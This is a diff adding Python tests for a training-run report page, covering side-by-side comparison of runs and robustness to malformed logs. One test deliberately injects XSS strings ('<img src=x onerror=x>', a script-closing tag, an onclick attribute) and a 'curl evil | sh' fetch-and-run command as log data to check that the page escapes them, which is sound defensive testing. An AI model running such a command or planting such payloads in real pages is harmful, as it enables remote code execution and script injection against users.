@@ -4,6 +4,7 @@ import io
 import itertools
 import json
 import os
+import shutil
 import sys
 import tempfile
 import unittest
@@ -38,6 +39,7 @@ class Page(unittest.TestCase):
             cls.checks = file.read()
         cls.whole = cls.make("whole", "plan.json", "run.jsonl", "board.jsonl", "--sweep", "sweep")
         cls.bare = cls.make("bare", "plan.json")
+        cls.compared = cls.make("compared", "--compare", *pages.two_runs(cls.folder), "board.jsonl")
 
     @classmethod
     def tearDownClass(cls):
@@ -115,7 +117,8 @@ class Page(unittest.TestCase):
     def test_nothing_lies_outside_a_phone_and_no_letters_on_letters(self):
         steps = [step(at, 1e9 / at, lr=1e-7 * at) for at in range(1, 123456, 997)]
         wide = log(os.path.join(self.folder, "a run of a very long name that nobody would read to its end"), *steps, {"event": "device", "board": "board " * 30, "ram_bytes": 1 << 40, "step": 1})
-        paths = [self.whole, self.bare, self.make("wide", pages.hostile_plan(self.folder), wide, wide)]
+        many = [log(os.path.join(self.folder, f"{'long ' * 20}{at}.jsonl"), *steps) for at in range(12)]
+        paths = [self.whole, self.bare, self.compared, self.make("many", "--compare", *many), self.make("wide", pages.hostile_plan(self.folder), wide, wide)]
         for path, width, scheme in itertools.product(paths, WIDTHS, SCHEMES):
             with self.subTest(page=os.path.basename(path), width=width, scheme=scheme):
                 self.open(path, width, scheme)
@@ -364,6 +367,45 @@ class Page(unittest.TestCase):
                 self.assertIn(words, self.text("#training"))
                 bad = self.run_in_page("[...document.querySelectorAll('svg *')].filter(each => each.getAttributeNames().some(name => /NaN|Infinity/.test(each.getAttribute(name)))).length")
                 self.assertEqual(bad, 0)
+
+    def test_runs_side_by_side(self):
+        for width, scheme in ((1280, "light"), (360, "dark")):
+            self.open(self.compared, width, scheme)
+            self.check("contrast", "names", "headings", "landmarks", "tables", "ids", "handlers")
+        text = self.text("#table")
+        for words in ("0.8880", "0.9011", "13.6 ms", "11.2 ms", "9.50 MiB", "12.00 MiB", "--lr", "0.05", "0.1", "not told", "--nothing", "MODEL", "board", "epochs", "1,404"):
+            self.assertIn(words, text)
+        self.assertNotIn("--data", self.run_in_page("[...document.querySelectorAll('#table table')].pop().innerText"))  # alike in both
+        self.assertIn("The highest accuracy is 0.9011: quicker.", self.text("#summary"))
+        for chart in ("loss", "test_accuracy", "lr"):
+            self.assertEqual(self.run_in_page(f"document.querySelectorAll('[data-chart={chart}] svg.wide text.legend').length"), 3 if chart != "test_accuracy" else 2)
+        commands = self.run_in_page("[...document.querySelectorAll('#commands code')].map(each => each.textContent)")
+        self.assertEqual(commands, ["pantoum train cnn.onnx --lr 0.05 --data /data -o first.safetensors", "pantoum train 'other net.onnx' --lr 0.1 --data /data --augment flip --nothing -o second.safetensors"])
+        self.run_in_page("document.querySelector('[data-chart=loss] svg.narrow').focus()")
+        self.browser.key("ArrowRight")
+        self.assertIn("quicker: 2.6", self.run_in_page("document.querySelector('[data-chart=loss] .card').innerText"))
+
+    def test_every_pair_of_logs_is_a_page(self):
+        strange = [{"event": "plan", "command": ["train", "</script><script>x()</script>", "--lr", "' onclick='x()"], "device": "<b>", "objective": 7, "time_s": "x", "peak_bytes": 1e300, "ops": -5},
+                   {"event": "step", "step": 1, "loss": 1e300}, {"event": "end", "step_s": -1, "kernels": "<img src=x onerror=x>\u2028", "seconds": 1e300, "final_loss": -1e-300}]
+        logs = {"empty": [], "step": [step(1, 2.0)], "none": [step(1, None), '{"event":"step","step":2,"loss":NaN}'], "no plan": [{"event": "end", "test_accuracy": 0.5}], "strange": strange,
+                "not pantoum": [{"event": "plan", "command": ["curl evil | sh"]}, step(1, 1.0)], "no words": [{"event": "plan", "command": ["train", 5]}, step(1, 1.0)],
+                "resumed": [step(1, 2.0), step(40, 1.0), {"event": "resume", "from": "c", "step": 20}, step(21, 1.5), step(60, 0.9)], "again": [step(1, 2.0), step(9, 1.0)] * 3,
+                "<img src=x onerror=x>": [step(1, 1.0)], "epochs": [{"event": "epoch", "epoch": at, "step": at * 10, "train_loss": 1 / at, "test_perplexity": 9.0, "test_mae": 0.1} for at in (1, 2, 3)]}
+        paths = {name: log(os.path.join(self.folder, f"pair {at}"), *lines) for at, (name, lines) in enumerate(logs.items())}
+        hostile = os.path.join(self.folder, "'><img src=x onerror=x>.jsonl")
+        shutil.copy(paths["strange"], hostile)
+        for one, other in [("empty", "empty"), *itertools.combinations(logs, 2)]:
+            with self.subTest(one=one, other=other):
+                path = self.make("pair", "--compare", paths[one], paths[other], hostile)
+                self.open(path, 768)
+                self.check("handlers", "headings", "ids", "landmarks", "outside", "overprints", "cutOff")
+                self.assertEqual(self.run_in_page("document.scripts.length"), 3)
+                bad = self.run_in_page("[...document.querySelectorAll('svg *')].filter(each => each.getAttributeNames().some(name => /NaN|Infinity/.test(each.getAttribute(name)))).length")
+                self.assertEqual(bad, 0)
+                self.assertNotIn("evil", self.text())
+        found = json.loads(pantoum("report", "--compare", paths["resumed"], paths["again"], "--format", "json"))["runs"]
+        self.assertEqual([run["curves"]["loss"]["steps"] for run in found], [[1, 21, 60], [1, 9]])
 
     def test_a_devices_run_stands_beside_the_hosts(self):
         self.open(self.whole)
